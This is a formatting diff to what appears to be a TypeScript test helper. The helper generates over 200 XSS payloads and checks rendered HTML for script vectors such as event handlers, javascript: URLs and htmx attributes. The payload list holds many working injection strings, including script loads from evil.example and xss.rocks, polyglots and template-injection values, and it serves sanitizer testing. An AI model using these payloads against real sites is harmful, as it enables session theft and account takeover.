@@ -12,8 +12,8 @@ const BASE: string[] = [
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
   '<script src=//evil.example/x.js></script>',
   '<IMG SRC="javascript:alert(\'XSS\');">',
-  '<IMG SRC=javascript:alert(\'XSS\')>',
-  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
+  "<IMG SRC=javascript:alert('XSS')>",
+  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
   '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
   '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
   '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
@@ -36,7 +36,7 @@ const BASE: string[] = [
   '<SCRIPT SRC=//xss.rocks/.j>',
   '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
   '<iframe src=http://xss.rocks/scriptlet.html <',
-  '\\";alert(\'XSS\');//',
+  "\\\";alert('XSS');//",
   '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
   '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
   '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
@@ -44,15 +44,15 @@ const BASE: string[] = [
   '<IMG LOWSRC="javascript:alert(\'XSS\')">',
   '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
   '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
-  '<svg/onload=alert(\'XSS\')>',
+  "<svg/onload=alert('XSS')>",
   '<svg><script>alert(1)</script></svg>',
   '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
   '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<BODY ONLOAD=alert(\'XSS\')>',
+  "<BODY ONLOAD=alert('XSS')>",
   '<BGSOUND SRC="javascript:alert(\'XSS\');">',
   '<BR SIZE="&{alert(\'XSS\')}">',
   '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
-  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
+  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
   '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
   '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
   '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
@@ -88,9 +88,9 @@ const BASE: string[] = [
   '<plaintext><script>alert(1)</script>',
   '<listing><img src=x onerror=alert(1)></listing>',
   '"><script>alert(1)</script>',
-  '\'><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
   '" onmouseover="alert(1)',
-  '\' onmouseover=\'alert(1)',
+  "' onmouseover='alert(1)",
   '" autofocus onfocus="alert(1)" x="',
   '` onmouseover=alert(1) x=`',
   '"><svg onload=alert(1)>',
@@ -114,9 +114,10 @@ const BASE: string[] = [
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
   '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>\'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>\'"><img src="http://i.imgur.com/P8mL8.jpg">',
   '" onclick=alert(1)//<button \' onclick=alert(1)//> */ alert(1)//',
-  '<svg><style>{font-family:\'<iframe/onload=confirm(1)>\'',
+  "<svg><style>{font-family:'<iframe/onload=confirm(1)>'",
   '-->\'"/></sCript><deTailS open x=">" ontoGgle=(co\\u006efirm)``>',
-  '{{constructor.constructor(\'alert(1)\')()}}',
+  "{{constructor.constructor('alert(1)')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literally.
   '${alert(1)}',
   '<div hx-get="/account" hx-trigger="load" hx-target="body">htmx injection</div>',
   '<div hx-on:click="alert(1)">htmx on</div>',
@@ -141,12 +142,7 @@ const BASE: string[] = [
   'a\u0000<script>alert(1)</script>',
 ];
 
-const WRAPPERS: Array<(p: string) => string> = [
-  (p) => p,
-  (p) => `">${p}`,
-  (p) => `'>${p}`,
-  (p) => `</textarea>${p}`,
-];
+const WRAPPERS: Array<(p: string) => string> = [(p) => p, (p) => `">${p}`, (p) => `'>${p}`, (p) => `</textarea>${p}`];
 
 /** At least 200 distinct payloads. */
 export function xssPayloads(): string[] {
@@ -181,7 +177,9 @@ export async function scriptVectors(html: string, label: string): Promise<string
         if (n.startsWith('on')) problems.push(`${label}: <${tag} ${n}=…>`);
         if (URL_ATTRIBUTES.includes(n)) {
           // Browsers ignore leading controls/spaces and tabs/newlines inside the scheme.
-          const scheme = decodeEntities(value).replace(/[\u0000-\u0020]/g, '').toLowerCase();
+          const scheme = decodeEntities(value)
+            .replace(/[\u0000-\u0020]/g, '')
+            .toLowerCase();
           if (/^(?:javascript|vbscript|data):/.test(scheme)) problems.push(`${label}: <${tag} ${n}="${value.slice(0, 40)}">`);
         }
         if (/^(?:hx-|data-hx-)(?:on|get|post|put|patch|delete|trigger|vals|headers)/.test(n) && !ourHtmx(tag, n, decodeEntities(value))) {
@@ -194,7 +192,19 @@ export async function scriptVectors(html: string, label: string): Promise<string
   return problems;
 }
 
-const NAMED: Record<string, string> = { colon: ':', tab: '\t', newline: '\n', amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", lpar: '(', rpar: ')', sol: '/' };
+const NAMED: Record<string, string> = {
+  colon: ':',
+  tab: '\t',
+  newline: '\n',
+  amp: '&',
+  lt: '<',
+  gt: '>',
+  quot: '"',
+  apos: "'",
+  lpar: '(',
+  rpar: ')',
+  sol: '/',
+};
 
 /** HTMLRewriter hands attribute values over undecoded; browsers decode them before use. */
 function decodeEntities(value: string): string {
